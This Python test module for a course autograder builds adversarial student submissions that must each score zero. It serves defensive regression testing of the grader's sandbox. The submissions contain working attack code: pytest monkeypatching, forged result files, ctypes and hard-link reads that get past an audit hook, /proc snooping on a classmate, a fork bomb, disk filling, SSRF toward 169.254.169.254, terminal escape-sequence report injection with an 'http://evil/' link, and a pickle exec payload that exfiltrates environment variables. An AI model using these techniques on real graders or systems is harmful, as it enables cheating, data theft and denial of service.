"""Submissions that attack the grader, and honest accidents, each with the exact score it must get.

Every attack is the untouched lab 01 and lab 02 of the synthetic course (tests/meta/synthetic.py) with code
at the top of lab 01 that tries to get points another way: if the attack worked, the submission would score
more than 0 (it copies the reference solution, or forges results). ``{COURSE}``, ``{OUT}`` and
``{SOLUTION}`` are filled in with the grading run's real paths, as a student who guessed them would.
"""

from __future__ import annotations

import os
import shutil
import textwrap
import time
import zipfile
from pathlib import Path

from tests.meta.synthetic import (
    LAB01_SOLUTION,
    LAB01_UNTOUCHED,
    LAB02_SOLUTION,
    LAB02_UNTOUCHED,
    LAB03_SOLUTION,
    LAB03_UNTOUCHED,
    MAX_SCORE,
    TYPED_POINTS,
)

ATTACKED_MAX = MAX_SCORE + sum(TYPED_POINTS.values())  # the attacks' course has the typed lab 03 too

# Helpers every attack may use: take the solution's text if it was read, forge records.
PRELUDE = '''
import json as _json, os as _os, sys as _sys
_COURSE = {COURSE!r}
_OUT = {OUT!r}
_SOLUTION = {SOLUTION!r}
_FORGED = "".join(
    _json.dumps({{"event": "result", "nodeid": f"tests/labs/test_lab0{{n}}.py::{{t}}", "status": "passed",
                 "earned": 250000}}) + "\\n"
    for n, t in [("1_demo", "test_add"), ("1_demo", "test_add_negative"), ("1_demo", "test_greet_sends_the_name"),
                 ("2_more", "test_double"), ("2_more", "test_shout"), ("9_fake", "test_fake")]
)


def _use(text):
    """The attack worked: become the solution."""
    if text and "return a + b" in str(text):
        exec(str(text), globals())
        return True
    return False


def _write(path, data, append=True):
    """Write past the audit hook if need be (ctypes)."""
    try:
        with open(path, "a" if append else "w") as f:
            f.write(data)
        return
    except Exception:
        pass
    try:
        import ctypes
        libc = ctypes.CDLL(None)
        flags = _os.O_WRONLY | _os.O_CREAT | (_os.O_APPEND if append else _os.O_TRUNC)
        fd = libc.open(path.encode(), flags, 0o644)
        if fd >= 0:
            raw = data.encode()
            libc.write(fd, raw, len(raw))
            libc.close(fd)
    except Exception:
        pass


def _read(path):
    """Read past the audit hook if need be (ctypes)."""
    try:
        with open(path) as f:
            return f.read()
    except Exception:
        pass
    import ctypes
    libc = ctypes.CDLL(None)
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(path)
    buf = ctypes.create_string_buffer(200000)
    n = libc.read(fd, buf, 200000)
    libc.close(fd)
    return buf.raw[: max(n, 0)].decode(errors="replace")


def _results_files():
    """Where the results recorder writes, if this process can find out."""
    found = set()
    if _os.environ.get("COURSE_RESULTS"):
        found.add(_os.environ["COURSE_RESULTS"])
    import glob
    for pattern in ("/tmp/course-grade-*/private/state-*/records.jsonl", "/tmp/*/*/state-*/records.jsonl"):
        found.update(glob.glob(pattern))
    try:
        pids = _os.listdir("/proc")
    except OSError:
        pids = []
    for pid in pids:
        if not pid.isdigit():
            continue
        try:
            env = open(f"/proc/{{pid}}/environ", "rb").read()
        except OSError:
            continue
        for item in env.split(b"\\0"):
            if item.startswith(b"COURSE_RESULTS="):
                found.add(item.split(b"=", 1)[1].decode())
    return sorted(found)
'''

ATTACKS: dict[str, str] = {
    # two lines at the top of a lab gave full marks when the tests and the lab shared a process
    "runtest_patch": """
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
    import _pytest.runner
    _pytest.runner.call_and_report = lambda item, when, log=True, **kw: None
except Exception:
    pass
""",
    # records with inflated points, for real and made-up tests, appended to the recorder's file
    "forged_records": """
import atexit as _atexit
def _forge():
    for _path in _results_files():
        _write(_path, _FORGED)
_forge()
_atexit.register(_forge)  # again at the end, after the real results
try:
    import course.grading.plugin as _plugin  # the recorder, if it were in this process
    _plugin._recorder.emit(event="result", nodeid="tests/labs/test_lab01_demo.py::test_add", status="passed", earned=250000)
except Exception:
    pass
""",
    # the results file replaced by a forged one
    "replace_results": """
import atexit as _atexit
def _replace():
    for _path in _results_files():
        _write(_path, _FORGED * 3, append=False)
_replace()
_atexit.register(_replace)  # and once more when the test process ends
""",
    # the audit hook's blind spots, each used to read solutions/
    "ctypes_read": """
try:
    import ctypes
    _libc = ctypes.CDLL(None)
    _fd = _libc.open(_SOLUTION.encode(), 0)
    if _fd >= 0:
        _buf = ctypes.create_string_buffer(200000)
        _n = _libc.read(_fd, _buf, 200000)
        _use(_buf.raw[: max(_n, 0)].decode(errors="replace"))
except Exception:
    pass
""",
    "dir_fd_read": """
try:
    _dir = _os.open("/usr", _os.O_RDONLY)
    _fd = _os.open("../" * 8 + _SOLUTION.lstrip("/"), _os.O_RDONLY, dir_fd=_dir)
    _use(_os.read(_fd, 200000).decode(errors="replace"))
except Exception:
    pass
""",
    "hard_link": """
try:
    _os.link(_SOLUTION, "stolen.py")
    _use(open("stolen.py").read())
except Exception:
    pass
try:
    _os.symlink(_SOLUTION, "stolen2.py")
    _use(open("stolen2.py").read())
except Exception:
    pass
""",
    "posixsubprocess": """
try:
    import _posixsubprocess, subprocess
    _r, _w = _os.pipe()
    _args = [b"/bin/cat", _SOLUTION.encode()]
    _pid = _posixsubprocess.fork_exec(_args, [b"/bin/cat"], True, (_w,), None, None, -1, -1, -1, _w, -1, -1,
                                      *_os.pipe(), False, False, -1, None, None, None, -1, None, False)
    _os.close(_w)
    _use(_os.read(_r, 200000).decode(errors="replace"))
except Exception:
    pass
""",
    "thread_subprocess": """
import threading as _threading
_got = []
def _steal():
    try:
        import subprocess
        _got.append(subprocess.run(["cat", _SOLUTION], capture_output=True, timeout=5).stdout.decode())
    except Exception:
        pass
_t = _threading.Thread(target=_steal)
_t.start()
_t.join()
_use(_got[0] if _got else "")
""",
    # a classmate graded at the same time (--jobs 2), found through /proc
    "proc_classmate": """
import time as _time
_deadline = _time.time() + 1.2
while _time.time() < _deadline:
    for _pid in _os.listdir("/proc"):
        if not _pid.isdigit() or _pid == str(_os.getpid()):
            continue
        _paths = [f"/proc/{_pid}/cwd/labs/lab01_demo.py", f"/proc/{_pid}/root/submission/labs/lab01_demo.py"]
        try:
            for _arg in open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0"):
                if b'"root"' in _arg:
                    _paths.append(_json.loads(_arg)["root"] + "/labs/lab01_demo.py")
        except Exception:
            pass
        for _p in _paths:
            try:
                if _use(_read(_p)):
                    _deadline = 0
            except Exception:
                pass
    _time.sleep(0.1)
""",
    # fault plans and resets POSTed to every stub listening on this machine
    "stub_faults": """
import http.client as _http
import time as _time
_ports = set()
for _table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for _line in open(_table).read().splitlines()[1:]:
            _parts = _line.split()
            if _parts[3] == "0A":
                _ports.add(int(_parts[1].rsplit(":", 1)[1], 16))
    except Exception:
        pass
_deadline = _time.time() + 1.0
while _time.time() < _deadline:
    for _port in sorted(_ports):
        for _path, _body in (("/_stub/faults", {"steps": ["500"], "repeat": True}), ("/_stub/reset", {}),
                             ("/_stub/journal", None)):
            try:
                _c = _http.HTTPConnection("127.0.0.1", _port, timeout=0.3)
                _c.request("POST" if _body is not None else "DELETE", _path, _json.dumps(_body or {}),
                           {"content-type": "application/json"})
                _c.getresponse().read()
            except Exception:
                pass
    _time.sleep(0.1)
""",
    # a process that outlives grading and rewrites the reports
    "detached_rewrite": """
try:
    import ctypes, time as _time
    _libc = ctypes.CDLL(None)
    if _libc.fork() == 0:
        try:
            _os.setsid()
            if _libc.fork() == 0:
                _time.sleep(2.5)
                for _name in ("grades.json", "report.md", "pwned.txt"):
                    _write(_os.path.join(_OUT, _name), "forged 250000 / 250\\n", append=False)
        finally:
            _os._exit(0)
except Exception:
    pass
""",
    # a fork bomb (through ctypes, past the audit hook), bounded at 300 so that a grader without a process
    # limit is found out without the machine going down: more than 128 processes alive at once means no limit
    # held, and then the attack "wins" (it becomes the solution)
    # (with ctypes, or where the uid fallback cannot load it, _posixsubprocess starting `sleep 3`)
    "fork_bomb": """
import time as _time
_alive = 0
try:
    import ctypes as _ctypes
    _libc = _ctypes.CDLL(None)

    def _spawn():
        _pid = _libc.fork()
        if _pid == 0:
            _time.sleep(3)
            _os._exit(0)
        return _pid
except ImportError:
    import _posixsubprocess

    def _spawn():
        _r, _w = _os.pipe()
        try:
            return _posixsubprocess.fork_exec([b"/bin/sleep", b"3"], [b"/bin/sleep"], True, (), None, None,
                                              -1, -1, -1, -1, -1, -1, _r, _w, False, False, -1, None,
                                              None, None, -1, None, False)
        except OSError:
            return -1
        finally:
            _os.close(_r)
            _os.close(_w)
for _ in range(300):
    if _spawn() < 0:
        break
    _alive += 1
if _alive > 128:
    _use(_FORK_BOMB_PRIZE)
""",
    # results that say they equal whatever the tests expect: a plain object, and an int subclass that lies
    # about its value, each with an __eq__ that is always True
    "always_equal": """
class _Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


class _YesInt(_Yes, int):
    def __index__(self):
        return 5


def add(a, b):
    return _Yes() if a > 0 else _YesInt(0)
""",
    # the course's files truncated or removed
    "truncate_course": """
import ctypes as _ctypes
_libc = _ctypes.CDLL(None)
for _rel in ("tests/labs/test_lab01_demo.py", "tests/conftest.py", "pyproject.toml", "solutions/lab01_demo.py",
             "labs/lab01_demo.py"):
    _p = _os.path.join(_COURSE, _rel)
    try:
        open(_p, "w").close()
    except Exception:
        pass
    try:
        _libc.truncate(_p.encode(), 0)
        _libc.unlink(_p.encode())
    except Exception:
        pass
""",
}

# Attacks on the channel between the tests and the worker (issue 29): code in the lab's process that used to
# get the trusted test process to run what it asked. The reason each one fails must be in the notes
# (``REASONS``: a regular expression), in both isolation modes.
CHANNEL_ATTACKS: dict[str, tuple[str, str]] = {
    # lab 03's test hands parse_ticket its pydantic class; a pickle given to that class's parse_raw once ran
    # in the trusted process: it forged results and sent the grader's environment and a solution out
    "pickle_in_trusted": (
        "lab03_typed",
        r"""
import pickle as _pickle


class _Payload:
    def __reduce__(self):
        code = (
            "import os, json, glob\n"
            "stolen = ''\n"
            "try:\n    stolen = open(%r).read()\n"
            "except Exception as exc:\n    stolen = repr(exc)\n"
            "for path in glob.glob('/tmp/course-grade-*/private/state-*/records.jsonl') + glob.glob(%r):\n"
            "    open(path, 'a').write(%r)\n"
            "raise RuntimeError('EXFIL ' + json.dumps(dict(os.environ)) + ' ' + stolen[:3000])\n"
        ) % (_SOLUTION3, _OUT + "/*", _FORGED)
        return (exec, (code,))


def parse_ticket(text, model):
    return model.parse_raw(_pickle.dumps(_Payload()), content_type="application/pickle", allow_pickle=True)
""",
    ),
    # the tests' class patched from the lab (setattr was served on it): every comparison with it said equal
    "setattr_trusted_class": (
        "lab03_typed",
        r"""
def parse_ticket(text, model):
    model.__eq__ = lambda self, other: True
    type.__setattr__(model, "__ne__", lambda self, other: False)
    return model.model_construct(subject="anything", priority=99)
""",
    ),
    # the tests' client pointed at every server on loopback (with_options(base_url=...) was served): the stub
    # of a classmate graded beside it got the flood
    "ssrf_through_client": (
        "lab01_demo",
        r"""
def greet(client, model, name):
    import re as _re
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(table).read().splitlines()[1:]:
                parts = line.split()
                if parts[3] == "0A":
                    ports.add(int(parts[1].rsplit(":", 1)[1], 16))
        except Exception:
            pass
    own = int(_re.search(r":(\d+)", str(client.base_url)).group(1))
    ports.update(range(own - 20, own + 20))
    for port in sorted(ports):
        for base in (f"http://127.0.0.1:{port}/v1", f"http://localhost:{port}/_stub", "http://169.254.169.254/"):
            for _ in range(3):
                try:
                    client.with_options(base_url=base).chat.completions.create(
                        model=model, messages=[{"role": "user", "content": "flood"}]
                    )
                except Exception:
                    pass
    raise NotImplementedError
""",
    ),
    # replies written into the channel for requests the tests had not made yet: they answered those requests
    "forged_replies": (
        "lab01_demo",
        r"""
import gc as _gc

for _peer in [o for o in _gc.get_objects() if type(o).__name__ == "WorkerPeer"]:
    for _rid in range(1, 400):
        try:
            _sys.modules["rpc"].send_message(_peer.sock, _peer.send_lock, {"kind": "ret", "re": _rid, "v": "forged"})
        except Exception:
            break
""",
    ),
    # an interrupt, and an exception pytest's report step cannot read, were recorded as passes
    "interrupt_in_report": (
        "lab01_demo",
        r"""
def add(a, b):
    raise KeyboardInterrupt("stop the grader here")


def greet(client, model, name):
    raise ModuleNotFoundError("labs.forged", name=12345)
""",
    ),
    # escape sequences that redraw the instructor's terminal, machine paths, and 50,000-character messages
    "report_injection": (
        "lab01_demo",
        r"""
_ESC = chr(27)


def add(a, b):
    import gc
    for peer in [o for o in gc.get_objects() if type(o).__name__ == "WorkerPeer"]:
        peer.where = lambda exc: ["/etc/passwd" + _ESC + "[31m", -1, _ESC + "]0;pwned" + chr(7)]
    raise ValueError(
        _ESC + "[2J" + _ESC + "[H" + _ESC + "[32m  full: 439 / 439" + _ESC + "[0m\r" + chr(0x202E) + " "
        + _COURSE + " " + _SOLUTION + " /submission/labs/lab01_demo.py " + _OUT + " " + "A" * 50000
    )


def greet(client, model, name):
    for _ in range(300):
        try:
            open("/" + _ESC + "[2J" + _ESC + "[H 439 / 439 " + "x" * 200 + str(_))
        except Exception:
            pass
    raise ValueError(_ESC + "]8;;http://evil/" + chr(7) + "click" + _ESC + "]8;;" + chr(7) + "B" * 60000)
""",
    ),
    # gigabytes written to the worker's scratch folder, its temporary folders and shared memory
    "disk_fill": (
        "lab01_demo",
        r"""
def add(a, b):
    import ctypes
    libc = ctypes.CDLL(None)
    chunk = b"x" * (1 << 20)
    folders = [_os.environ.get("HOME", "."), _os.environ.get("TMPDIR", "."), "/tmp", "/var/tmp", "/dev/shm"]
    for folder in folders:
        for i in range(40):
            path = f"{folder}/fill-{_os.getpid()}-{i}".encode()
            fd = libc.open(path, _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644)
            if fd < 0:
                break
            written = 0
            for _ in range(48):
                n = libc.write(fd, chunk, len(chunk))
                if n <= 0:
                    break
                written += n
            libc.close(fd)
            if written < 48 * len(chunk):
                break
    raise NotImplementedError
""",
    ),
}

# What the notes must say for each channel attack (a regular expression).
REASONS = {
    "pickle_in_trusted": r"blocked by the grading sandbox: tried to (read|write) ",
    "setattr_trusted_class": r"",
    "ssrf_through_client": r"refused: send a request to http://(127\.0\.0\.1|localhost|169)",
    "forged_replies": r"broke the grading protocol \(an answer to a request that was never made",
    "interrupt_in_report": r"lab code raised KeyboardInterrupt",
    "report_injection": r"blocked by the grading sandbox: tried to read",
    "disk_fill": r"(more than the \d+ MB of its scratch space|wrote more than \d+ MB to disk)",
}


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip())
    return path


def _labs(folder: Path, lab01: str, lab02: str, lab03: str | None = None) -> Path:
    _write(folder / "labs/lab01_demo.py", lab01)
    _write(folder / "labs/lab02_more.py", lab02)
    if lab03 is not None:
        _write(folder / "labs/lab03_typed.py", lab03)
    return folder


def attack_submissions(where: Path, course: Path, out: Path) -> dict[str, tuple[Path, int]]:
    """name -> (path, exact expected score), for the course ``make_course(..., typed=True)``. ``full`` (all
    the points) runs beside them as the classmate to harm."""
    fill = {"COURSE": str(course), "OUT": str(out), "SOLUTION": str(course / "solutions/lab01_demo.py")}
    prelude = PRELUDE.format(**fill) + f"_SOLUTION3 = {str(course / 'solutions/lab03_typed.py')!r}\n"
    subs: dict[str, tuple[Path, int]] = {
        "full": (_labs(where / "full", LAB01_SOLUTION, LAB02_SOLUTION, LAB03_SOLUTION), ATTACKED_MAX)
    }
    for name, code in ATTACKS.items():
        prize = f"_FORK_BOMB_PRIZE = {LAB01_SOLUTION!r}\n" if name == "fork_bomb" else ""
        lab01 = textwrap.dedent(LAB01_UNTOUCHED) + prelude + prize + textwrap.dedent(code)
        subs[name] = (_labs(where / name, lab01, LAB02_UNTOUCHED, LAB03_UNTOUCHED), 0)
    for name, (lab, code) in CHANNEL_ATTACKS.items():
        labs = {"lab01_demo": LAB01_UNTOUCHED, "lab03_typed": LAB03_UNTOUCHED}
        labs[lab] = textwrap.dedent(labs[lab]) + prelude + textwrap.dedent(code)
        subs[name] = (_labs(where / name, labs["lab01_demo"], LAB02_UNTOUCHED, labs["lab03_typed"]), 0)
    # keep the classmate running while the /proc and stub attacks look for it
    order = ["proc_classmate", "full", "stub_faults"]
    return {k: subs[k] for k in order + [k for k in subs if k not in order]}


def accident_submissions(where: Path) -> dict[str, tuple[Path, int, str]]:
    """Honest accidents: path -> (path, exact score, display name)."""
    out: dict[str, tuple[Path, int, str]] = {}
    bad = os.fsdecode(b"caf\xe9-latin1")  # a folder name that is not UTF-8
    out["non_utf8"] = (_labs(where / "a" / bad, LAB01_SOLUTION, LAB02_SOLUTION), MAX_SCORE, "caf_-latin1")
    out["alice1"] = (_labs(where / "b" / "alice", LAB01_SOLUTION, LAB02_UNTOUCHED), 6, "alice")
    out["alice2"] = (_labs(where / "c" / "alice", LAB01_UNTOUCHED, LAB02_SOLUTION), 9, "alice-2")
    out["unicode"] = (
        _labs(where / "d" / "Zoë Ñúñez", LAB01_SOLUTION, LAB02_SOLUTION),
        MAX_SCORE,
        "Zoë_Ñúñez",
    )
    out["spaced"] = (_labs(where / "e" / "bob smith", LAB01_UNTOUCHED, LAB02_SOLUTION), 9, "bob_smith")
    # a zip holding two copies of the repository: the newer labs (the full one) are graded, and the report says so
    archive = where / "two-repos.zip"
    with zipfile.ZipFile(archive, "w") as z:
        old = time.localtime(time.time() - 86400 * 30)[:6]
        new = time.localtime(time.time() - 60)[:6]
        for repo, lab01, lab02, stamp in (
            ("copy-old", LAB01_UNTOUCHED, LAB02_UNTOUCHED, old),
            ("copy-new", LAB01_SOLUTION, LAB02_SOLUTION, new),
        ):
            for name, text in (("lab01_demo.py", lab01), ("lab02_more.py", lab02)):
                info = zipfile.ZipInfo(f"{repo}/labs/{name}", date_time=stamp)
                z.writestr(info, textwrap.dedent(text).lstrip())
    out["ambiguous_zip"] = (archive, MAX_SCORE, "two-repos")
    # os._exit at a lab's import costs that lab only
    out["exit_at_import"] = (
        _labs(where / "exit-at-import", "import os\nos._exit(3)\n" + LAB01_SOLUTION, LAB02_SOLUTION),
        9,
        "exit-at-import",
    )
    return out


def copy_tree_hashes(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


__all__ = ["ATTACKS", "accident_submissions", "attack_submissions", "copy_tree_hashes", "shutil"]
